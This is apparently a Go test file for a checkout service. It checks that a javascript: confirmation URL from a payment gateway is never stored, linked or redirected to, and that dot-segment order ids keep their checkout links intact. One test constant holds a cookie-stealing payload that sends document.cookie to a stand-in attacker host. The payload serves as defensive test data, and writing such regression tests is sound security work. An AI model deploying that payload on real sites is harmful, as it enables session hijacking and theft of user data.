package handlers_test

import (
	"context"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"pitlane/access"
)

// A javascript: confirmation_url never reaches a page as a link or a redirect: a gateway that
// answers one gets it dropped at apply time (the Pay click then waits on the order's page, and
// the session is flagged), and a row that holds one from before that rule is not rendered nor
// followed by the checkout page, nor linked by the console. The main before this change
// rendered it with templ.SafeURL and redirected customers to it.
func TestJavascriptConfirmationURLIsNeverRenderedOrFollowed(t *testing.T) {
	t.Parallel()
	b := newConsoleBench(t)
	const evil = "javascript:fetch('//evil.example/?'+document.cookie)"

	// Answered by the gateway to a Pay click: not stored, not followed.
	b.gw.SetConfirmationURL(evil)
	a := b.agent(t)
	action, form := payForm(t, a, b.link(t, "o-evil", 1999, "EUR"))
	rec := a.post(action, form)
	if loc := rec.Header().Get("Location"); rec.Code != http.StatusSeeOther || !strings.HasPrefix(loc, "/checkout/o-evil") {
		t.Fatalf("Pay = %d to %q, want the order's own page", rec.Code, loc)
	}
	if n := b.count(t, `SELECT count(*) FROM payment_sessions WHERE confirmation_url IS NOT NULL OR flagged_at IS NULL`); n != 0 {
		t.Fatalf("%d sessions store the URL or are not flagged", n)
	}
	b.gw.SetConfirmationURL("")

	// A row from before the rule: the page neither links nor redirects to it.
	s := b.payment(t, "o-old-row", 1999)
	if _, err := b.pool.Exec(context.Background(), `UPDATE payment_sessions SET confirmation_url = $2 WHERE id = $1`, s.ID, evil); err != nil {
		t.Fatal(err)
	}
	rec = a.get(b.orderPage("o-old-row", ""))
	if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), "javascript:") {
		t.Fatalf("checkout page = %d, renders the URL:\n%s", rec.Code, rec.Body)
	}
	b.user(t, "sup@example.com", access.RoleSupport)
	sup := b.agent(t)
	sup.login("sup@example.com")
	rec = sup.get("/payments/" + s.ID)
	if rec.Code != http.StatusOK || strings.Contains(rec.Body.String(), `href="javascript:`) {
		t.Fatalf("console payment page = %d, links the URL", rec.Code)
	}
}

// "." and ".." are valid order ids, but a browser resolves such path segments away before it
// sends the request (/checkout/.. becomes /): every checkout URL pitlane hands out spells them
// %2E, so the link, the Pay form and the page it leads to survive the browser's resolution and
// reach the order (from an outside audit: the links of these orders opened the console).
func TestCheckoutURLsOfDotOrderIDsSurviveBrowsers(t *testing.T) {
	t.Parallel()
	b := newConsoleBench(t)
	base, _ := url.Parse("https://shop.example/")
	resolved := func(ref string) string {
		u, err := url.Parse(ref)
		if err != nil {
			t.Fatal(err)
		}
		return base.ResolveReference(u).RequestURI()
	}
	for _, order := range []string{".", "..", "a.b"} {
		a := b.agent(t)
		link := b.link(t, order, 1999, "EUR")
		if got := resolved(link); got != link {
			t.Fatalf("order %q: the link %s becomes %s in a browser", order, link, got)
		}
		action, form := payForm(t, a, resolved(link))
		if got := resolved(action); got != action || !strings.HasPrefix(action, "/checkout/") {
			t.Fatalf("order %q: the Pay form posts to %s, a browser to %s", order, action, got)
		}
		if rec := a.post(resolved(action), form); rec.Code != http.StatusSeeOther {
			t.Fatalf("order %q: Pay = %d %s", order, rec.Code, rec.Body)
		}
		if n := b.count(t, `SELECT count(*) FROM payment_sessions WHERE order_id = $1`, order); n != 1 {
			t.Fatalf("order %q: sessions = %d, want 1", order, n)
		}
	}
}
